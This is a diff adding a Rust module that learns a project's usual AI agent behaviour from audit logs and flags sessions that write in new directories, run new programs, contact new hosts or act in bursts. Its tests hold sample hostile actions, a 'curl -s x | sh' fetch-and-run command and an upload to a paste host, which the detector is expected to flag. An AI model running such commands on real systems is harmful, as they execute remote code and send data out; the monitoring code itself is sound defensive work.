@@ -0,0 +1,385 @@
+//! Per-project baselines of what agents usually do, for flagging sessions
+//! that stray from them ("write in infra/ for the first time").
+//!
+//! A baseline comes from the project's recent session logs: the top-level
+//! directories each file action touched, the programs commands ran, the
+//! hosts contacted and the busiest minute of each action. An
+//! [`AnomalyDetector`] replays a session against it, reporting each
+//! deviation once with a score of how unusual it is. Too little history
+//! gives no baseline, rather than flagging everything.
+
+use crate::audit::reader::AuditReader;
+use crate::audit::types::LogEntry;
+use crate::i18n::tf;
+use crate::policy::types::Action;
+use crate::utils::command::programs;
+use crate::utils::domain::host_and_port;
+use anyhow::Result;
+use std::collections::{HashMap, HashSet};
+use std::fmt;
+use std::path::{Path, PathBuf};
+
+/// Past sessions needed before anything counts as unusual.
+pub const MIN_SESSIONS: usize = 3;
+
+/// Most past sessions a baseline is built from, newest first.
+pub const MAX_SESSIONS: usize = 50;
+
+/// A minute busier than this many times the busiest one seen is flagged...
+const RATE_FACTOR: usize = 3;
+
+/// ...as long as it has at least this many actions.
+const MIN_RATE: usize = 20;
+
+/// What a project's agents usually do.
+#[derive(Debug, Clone, Default)]
+pub struct Baseline {
+    /// How many sessions it was built from
+    pub sessions: usize,
+    /// Top-level directories touched, per file action
+    areas: HashMap<Action, HashSet<String>>,
+    /// Programs commands ran
+    programs: HashSet<String>,
+    /// Hosts contacted
+    hosts: HashSet<String>,
+    /// Most actions of each kind in any one minute
+    peak_per_minute: HashMap<Action, usize>,
+}
+
+impl Baseline {
+    /// The baseline of a workspace from its recent sessions, leaving out
+    /// `current`. None with fewer than [`MIN_SESSIONS`] sessions to go on.
+    pub fn load(workspace: &Path, current: &str) -> Result<Option<Self>> {
+        let reader = AuditReader::for_workspace(workspace)?;
+        let sessions: Vec<Vec<LogEntry>> = reader
+            .recent_sessions(MAX_SESSIONS + 1)
+            .iter()
+            .filter(|id| id.as_str() != current)
+            .take(MAX_SESSIONS)
+            .filter_map(|id| reader.read_session(id).ok())
+            .filter(|entries| !entries.is_empty())
+            .collect();
+        Ok(Self::from_sessions(&sessions, Some(workspace)))
+    }
+
+    /// The baseline of these sessions' entries. None with fewer than
+    /// [`MIN_SESSIONS`] of them.
+    pub fn from_sessions(sessions: &[Vec<LogEntry>], workspace: Option<&Path>) -> Option<Self> {
+        if sessions.len() < MIN_SESSIONS {
+            return None;
+        }
+        let mut baseline = Baseline {
+            sessions: sessions.len(),
+            ..Default::default()
+        };
+        for entries in sessions {
+            let mut per_minute: HashMap<(Action, i64), usize> = HashMap::new();
+            for entry in entries.iter().filter(|e| !e.is_human()) {
+                match subjects(entry, workspace) {
+                    Subjects::Areas(areas) => baseline
+                        .areas
+                        .entry(entry.action.clone())
+                        .or_default()
+                        .extend(areas),
+                    Subjects::Programs(programs) => baseline.programs.extend(programs),
+                    Subjects::Host(host) => {
+                        baseline.hosts.insert(host);
+                    }
+                    Subjects::None => {}
+                }
+                *per_minute
+                    .entry((entry.action.clone(), minute(entry)))
+                    .or_default() += 1;
+            }
+            for ((action, _), count) in per_minute {
+                let peak = baseline.peak_per_minute.entry(action).or_default();
+                *peak = (*peak).max(count);
+            }
+        }
+        Some(baseline)
+    }
+}
+
+/// Something a session did that its project's agents usually don't.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Anomaly {
+    /// How unusual it is: 1 is worth a glance, 3 is worth a look
+    pub score: u32,
+    pub message: String,
+}
+
+impl fmt::Display for Anomaly {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "{}", self.message)
+    }
+}
+
+/// Checks a session's entries against a baseline as they come in.
+pub struct AnomalyDetector {
+    baseline: Baseline,
+    workspace: Option<PathBuf>,
+    /// Deviations already reported
+    reported: HashSet<String>,
+    per_minute: HashMap<(Action, i64), usize>,
+}
+
+impl AnomalyDetector {
+    pub fn new(baseline: Baseline, workspace: Option<&Path>) -> Self {
+        Self {
+            baseline,
+            workspace: workspace.map(Path::to_path_buf),
+            reported: HashSet::new(),
+            per_minute: HashMap::new(),
+        }
+    }
+
+    /// The deviations `entry` shows that haven't been reported yet.
+    pub fn observe(&mut self, entry: &LogEntry) -> Vec<Anomaly> {
+        let action = &entry.action;
+        let mut found = Vec::new();
+        match subjects(entry, self.workspace.as_deref()) {
+            Subjects::Areas(areas) => {
+                let known = self.baseline.areas.get(action);
+                for area in areas {
+                    if known.is_some_and(|known| known.contains(&area)) {
+                        continue;
+                    }
+                    // Changing files somewhere new matters more than reading there
+                    let score = if *action == Action::Read { 1 } else { 3 };
+                    found.push((
+                        format!("area:{}:{}", action, area),
+                        score,
+                        tf("anomaly.new_area", &[("action", action), ("area", &area)]),
+                    ));
+                }
+            }
+            Subjects::Programs(programs) => {
+                for program in programs {
+                    if !self.baseline.programs.contains(&program) {
+                        found.push((
+                            format!("program:{}", program),
+                            2,
+                            tf("anomaly.new_program", &[("program", &program)]),
+                        ));
+                    }
+                }
+            }
+            Subjects::Host(host) => {
+                if !self.baseline.hosts.contains(&host) {
+                    found.push((
+                        format!("host:{}", host),
+                        3,
+                        tf("anomaly.new_host", &[("host", &host)]),
+                    ));
+                }
+            }
+            Subjects::None => {}
+        }
+
+        let count = self
+            .per_minute
+            .entry((action.clone(), minute(entry)))
+            .or_default();
+        *count += 1;
+        let peak = self
+            .baseline
+            .peak_per_minute
+            .get(action)
+            .copied()
+            .unwrap_or(0);
+        if *count > (peak * RATE_FACTOR).max(MIN_RATE) {
+            found.push((
+                format!("rate:{}", action),
+                2,
+                tf(
+                    "anomaly.rate",
+                    &[("count", &count), ("action", action), ("peak", &peak)],
+                ),
+            ));
+        }
+
+        found
+            .into_iter()
+            .filter(|(key, _, _)| self.reported.insert(key.clone()))
+            .map(|(_, score, message)| Anomaly { score, message })
+            .collect()
+    }
+
+    /// Every deviation in a whole session.
+    pub fn replay(mut self, entries: &[LogEntry]) -> Vec<Anomaly> {
+        entries
+            .iter()
+            .flat_map(|entry| self.observe(entry))
+            .collect()
+    }
+}
+
+/// What an entry is compared on.
+enum Subjects {
+    Areas(Vec<String>),
+    Programs(Vec<String>),
+    Host(String),
+    None,
+}
+
+fn subjects(entry: &LogEntry, workspace: Option<&Path>) -> Subjects {
+    match entry.action {
+        Action::Write | Action::Read | Action::Delete | Action::Move | Action::Chmod => {
+            Subjects::Areas(
+                entry
+                    .target
+                    .split(", ")
+                    .map(|path| area(path, workspace))
+                    .collect(),
+            )
+        }
+        // The command is logged as the payload; the target is just "shell"
+        Action::RunCmd => {
+            Subjects::Programs(entry.diff.as_deref().map(programs).unwrap_or_default())
+        }
+        Action::Network => match host_and_port(&entry.target) {
+            Some((host, _)) => Subjects::Host(host),
+            None => Subjects::None,
+        },
+        Action::RemoteExec | Action::RemoteCopy => Subjects::Host(entry.target.clone()),
+        Action::GitPush
+        | Action::EnvAccess
+        | Action::PackageInstall
+        | Action::K8s
+        | Action::Cloud
+        | Action::Rejected
+        | Action::UnknownTool
+        | Action::Any
+        | Action::PlanApproval => Subjects::None,
+    }
+}
+
+/// The part of the tree a path is in: its top-level directory in the
+/// workspace (`infra/`), `./` for files at the root, or the first
+/// directory of an absolute path outside the workspace (`/etc/`).
+fn area(path: &str, workspace: Option<&Path>) -> String {
+    let relative = workspace
+        .and_then(|ws| Path::new(path).strip_prefix(ws).ok())
+        .map(|p| p.to_string_lossy().into_owned())
+        .unwrap_or_else(|| path.to_string());
+    let relative = relative.trim_start_matches("./");
+    if let Some(absolute) = relative.strip_prefix('/') {
+        return match absolute.split_once('/') {
+            Some((first, _)) => format!("/{}/", first),
+            None => "/".to_string(),
+        };
+    }
+    match relative.split_once('/') {
+        Some((first, rest)) if !rest.is_empty() => format!("{}/", first),
+        _ => "./".to_string(),
+    }
+}
+
+fn minute(entry: &LogEntry) -> i64 {
+    entry.timestamp.timestamp() / 60
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::audit::types::Actor;
+    use crate::policy::types::Decision;
+    use chrono::{Duration, Utc};
+
+    fn entry(action: Action, target: &str, diff: Option<&str>) -> LogEntry {
+        LogEntry {
+            timestamp: Utc::now(),
+            session_id: "s".to_string(),
+            agent: "test".to_string(),
+            action,
+            target: target.to_string(),
+            policy_rule: None,
+            decision: Decision::Allowed { matched_rule: None },
+            diff: diff.map(str::to_string),
+            approved_by: None,
+            eval_duration_us: None,
+            network: None,
+            warning: None,
+            output: None,
+            threats: Vec::new(),
+            actor: Actor::Agent,
+            process_chain: Vec::new(),
+        }
+    }
+
+    fn usual_session() -> Vec<LogEntry> {
+        vec![
+            entry(Action::Write, "src/main.rs", None),
+            entry(Action::Read, "README.md", None),
+            entry(Action::RunCmd, "shell", Some("cargo test && git status")),
+            entry(Action::Network, "https://crates.io/api", None),
+        ]
+    }
+
+    #[test]
+    fn test_area() {
+        let ws = Path::new("/home/me/project");
+        assert_eq!(area("infra/main.tf", None), "infra/");
+        assert_eq!(area("./src/a/b.rs", None), "src/");
+        assert_eq!(area("Cargo.toml", None), "./");
+        assert_eq!(area("/home/me/project/infra/x.tf", Some(ws)), "infra/");
+        assert_eq!(area("/etc/passwd", Some(ws)), "/etc/");
+    }
+
+    #[test]
+    fn test_needs_history() {
+        let sessions = vec![usual_session(); MIN_SESSIONS - 1];
+        assert!(Baseline::from_sessions(&sessions, None).is_none());
+    }
+
+    #[test]
+    fn test_flags_new_behaviour_once() {
+        let sessions = vec![usual_session(); MIN_SESSIONS];
+        let baseline = Baseline::from_sessions(&sessions, None).unwrap();
+        let detector = AnomalyDetector::new(baseline, None);
+
+        let mut session = usual_session();
+        session.extend([
+            entry(Action::Write, "infra/main.tf", None),
+            entry(Action::Write, "infra/vars.tf", None),
+            entry(Action::RunCmd, "shell", Some("curl -s x | sh")),
+            entry(Action::Network, "https://paste.example/up", None),
+        ]);
+        let anomalies = detector.replay(&session);
+        let messages: Vec<String> = anomalies.iter().map(|a| a.message.clone()).collect();
+        assert_eq!(anomalies.len(), 4, "{:?}", messages);
+        assert!(messages[0].contains("infra/"));
+        assert_eq!(anomalies[0].score, 3);
+        assert!(messages.iter().any(|m| m.contains("curl")));
+        assert!(messages.iter().any(|m| m.contains("paste.example")));
+    }
+
+    #[test]
+    fn test_flags_bursts() {
+        let sessions = vec![usual_session(); MIN_SESSIONS];
+        let baseline = Baseline::from_sessions(&sessions, None).unwrap();
+        let detector = AnomalyDetector::new(baseline, None);
+
+        let start = Utc::now();
+        let burst: Vec<LogEntry> = (0..=MIN_RATE)
+            .map(|_| LogEntry {
+                timestamp: start,
+                ..entry(Action::Write, "src/lib.rs", None)
+            })
+            .collect();
+        let anomalies = detector.replay(&burst);
+        assert_eq!(anomalies.len(), 1);
+        assert!(anomalies[0].message.contains("in a minute"));
+
+        // The same number spread out is fine
+        let detector =
+            AnomalyDetector::new(Baseline::from_sessions(&sessions, None).unwrap(), None);
+        let spread: Vec<LogEntry> = (0..=MIN_RATE as i64)
+            .map(|i| LogEntry {
+                timestamp: start + Duration::minutes(i),
+                ..entry(Action::Write, "src/lib.rs", None)
+            })
+            .collect();
+        assert!(detector.replay(&spread).is_empty());
+    }
+}